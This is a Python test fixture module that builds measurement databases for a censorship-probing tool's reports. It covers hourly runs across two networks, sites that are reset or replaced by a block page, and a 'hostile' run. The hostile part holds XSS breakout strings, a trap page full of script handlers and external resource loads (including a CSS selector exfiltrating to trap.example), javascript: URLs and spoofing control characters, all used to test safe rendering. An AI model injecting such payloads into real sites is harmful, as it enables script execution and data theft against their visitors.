"""Databases to report on: a history of two networks, and a run in which strangers are hostile."""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path

import msgspec

from analysis.observe.sight import place
from probe.evidence import PROBE
from probe.failure import Failure
from probe.store import Planned, Store
from testlists.target import Target
from tests.analysis.build import BOTH, RUN, STARTED, Page, Scene

BLOCKED, OPEN, THIRD = "https://news.example/", "https://other.example/", "https://third.example/"
HOURS, FROM = 48, 30
BLOCK = Page(
    "<html><head><title>Доступ ограничен</title></head><body bgcolor=#eee>"
    "<h1 style='color:#900'>Access restricted</h1><p>By decision of the authority.</body></html>",
    headers=(("server", "nginx"), ("content-length", "120")),
)


def history(path: Path) -> Path:
    """Hourly runs of probes on two networks over two days; one site is reset from an hour on."""
    with Store(path, write=True) as store:
        for hour in range(HOURS):
            for probe, asn in ((0, 6697), (1, 6697), (2, 25106)):
                at = STARTED + 3600 * hour + 600 * probe
                scenes = [
                    reset(BLOCKED) if hour >= FROM else site(BLOCKED).visit(),
                    site(OPEN).visit(),
                    site(THIRD).visit(),
                ]
                _run(store, f"run{hour}-{probe}", at, asn, scenes)
    return path


def one_run(path: Path, scenes: Iterable[Scene], planned: Iterable[str] = ()) -> Path:
    """One run with *scenes*, and what was only *planned*."""
    with Store(path, write=True) as store:
        _run(store, "run", STARTED, 6697, list(scenes), list(planned))
    return path


def varied(path: Path) -> Path:
    """One run in which sites fare in many ways, each named for it."""
    gone, challenge = Failure.DNS_NXDOMAIN, Page(
        "<title>Just a moment...</title>", status=503, headers=(("server", "cloudflare"),)
    )
    down = Scene("https://down.example/").names(host="down.example", own=gone, public=gone,
                                                encrypted=gone)  # fmt: skip
    scenes = [
        reset("https://reset.example/"),
        reset("https://reset-too.example/"),
        replaced("http://replaced.example/"),
        replaced("http://part.example/"),
        site("https://part.example/").visit(),
        site("https://open.example/").visit(),
        down.control_names(host="down.example", says=gone).asked(*BOTH),
        site("https://refuses.example/").visit(by=BOTH).visit(page=challenge, by=(PROBE,)),
        site("https://unsure.example/", controls=()).asked(silent=BOTH).connect(
            tls=Failure.CONNECTION_RESET, holds=True
        ),
    ]  # fmt: skip
    return one_run(path, scenes, ["https://never.example/"])


OWNED = "window.owned=1;document.title='owned'"
BREAKOUTS = (
    f"</title></script></style></textarea><script>{OWNED}</script>"
    f"<img src=x onerror=\"{OWNED}\"><svg onload=\"{OWNED}\">'\"><b onmouseover={OWNED}>"
    "{{7*7}}{% raw %}<!--"
)
TURNED = "\u202eelpmaxe.tset\u2066\u200b\x1b[31m\x00"
HUGE = "W" * 100_000 + "a\u0301\u0301\u0301\u0301\u0301\u0301"
TRAP = "http://trap.example"
PAGE_OF_TRAPS = f"""<!doctype html><html><head><title>{BREAKOUTS.removesuffix("<!--")}</title>
<base href="{TRAP}/base/"><meta http-equiv="refresh" content="0;url={TRAP}/refresh">
<link rel=stylesheet href="{TRAP}/sheet.css"><link rel=prefetch href="{TRAP}/prefetch">
<style>@import url({TRAP}/import.css); body {{ background: url({TRAP}/css.png) }}
input[value^=a] {{ background: url({TRAP}/exfiltrated) }}</style></head>
<body onload="{OWNED}" background="{TRAP}/bg.png"
 style="background-image:url({TRAP}/style.png)">
<h1 style="color:#900;background:url({TRAP}/h1.png);position:fixed">Access restricted</h1>
<script>{OWNED}</script><script src="{TRAP}/x.js"></script>
<img src="{TRAP}/i.png" onerror="{OWNED}">
<svg onload="{OWNED}"><use href="{TRAP}/s.svg#a"/><script>{OWNED}</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="{OWNED}"></style></mglyph></table>
</mtext></math>
<iframe src="{TRAP}/frame"></iframe><iframe srcdoc="<script>parent.owned=1</script>"></iframe>
<object data="{TRAP}/o"></object><embed src="{TRAP}/e">
<video poster="{TRAP}/v" src="{TRAP}/v2"></video>
<a href="javascript:{OWNED}" style="position:fixed;inset:0;display:block">click</a>
<a href="{TRAP}/link" ping="{TRAP}/ping" target=_top>link</a>
<form action="{TRAP}/form"><input autofocus onfocus="{OWNED}">
<button formaction="{TRAP}/b">go</button></form></body></html>"""


def hostile(path: Path) -> Path:
    """One run in which all that strangers can write is written against the reader."""
    urls = [
        "http://trap.example/",
        f"http://quoted.example/{BREAKOUTS}",
        "javascript:window.owned=1",
        f"data:text/html,<script>{OWNED}</script>",
        f"http://{TURNED}.example/",
        f"http://huge.example/{HUGE[:3000]}",
        'http://"><script>window.owned=1</script>/',
    ]
    traps = Page(PAGE_OF_TRAPS, headers=(("server", BREAKOUTS), ("content-type", "text/html")))
    scenes = [replaced(urls[0], traps)]
    for url in urls[1:]:
        scene = replaced(url, Page(f"<title>{BREAKOUTS}{TURNED}{HUGE}</title><p>{BREAKOUTS}"))
        scenes.append(scene.connect(
            "https://quoted.example/", leaf="evil", bad=Failure.TLS_UNKNOWN_AUTHORITY,
            subject=f"CN={BREAKOUTS}{TURNED}", issuer=f"CN={BREAKOUTS}",
        ))  # fmt: skip
    return one_run(path, scenes)


def site(url: str, controls: tuple[str, ...] = BOTH) -> Scene:
    """Names and controls of a healthy site."""
    host = place(url).host
    scene = Scene(url=url).names(host=host)
    if controls:
        scene.control_names(*controls, host=host)
    return scene.asked(*controls)


def reset(url: str) -> Scene:
    """The handshake is cut here and nowhere else."""
    return site(url).visit(by=BOTH).connect(tls=Failure.CONNECTION_RESET, holds=True)


def replaced(url: str, page: Page = BLOCK) -> Scene:
    """In the clear, a page of somebody else's comes in place of the site's."""
    return site(url).visit(by=BOTH).connect().page(page, by=(PROBE,))


def _run(
    store: Store, id: str, at: float, asn: int, scenes: list[Scene], planned: Iterable[str] = ()
) -> None:
    run = msgspec.structs.replace(
        RUN, id=id, started_at=at - 60, ended_at=at + 100, probe_asn=asn
    )
    urls = [*(scene.url for scene in scenes), *planned]
    store.begin_run(run, [
        Planned(run_id=id, position=n, nettest="web_connectivity",
                target=Target(url=url, category="NEWS"))
        for n, url in enumerate(urls)
    ])  # fmt: skip
    store.append([
        msgspec.structs.replace(scene.measurement(at, f"m-{id}-{n}"), run_id=id)
        for n, scene in enumerate(scenes)
    ])  # fmt: skip
